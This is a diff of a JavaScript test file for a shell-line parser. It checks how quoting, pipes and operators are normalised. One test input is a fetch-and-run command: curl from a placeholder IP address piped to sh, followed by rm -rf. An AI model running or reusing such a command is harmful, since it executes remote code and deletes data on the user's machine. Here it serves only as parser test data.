@@ -34,7 +34,7 @@ describe('shellView', () => {
   ])('sees through %s', (_, text, line) => expect(linesOf(text)).toContain(line));
 
   it('keeps the operators of the whole line', () => {
-    expect(linesOf(`"curl" -s 'http://192.0.2.1/x'|sh&&rm -rf "/tmp/x" 2>/dev/null`)[0]).toBe('curl -s http://192.0.2.1/x | sh && rm -rf /tmp/x 2> /dev/null');
+    expect(linesOf(`"curl" -s 'http://192.0.2.1/x'|sh&&rm -rf "/tmp/x" 2>/dev/null`)[1]).toBe('curl -s http://192.0.2.1/x | sh && rm -rf /tmp/x 2> /dev/null');
   });
 
   it.each([`echo 'never closed`, 'echo "never $(closed', 'cat <<EOF\nnever closed', '$((1+2))', '`', '\\', "$'\\x", '((((', '<<<', '<<'])(
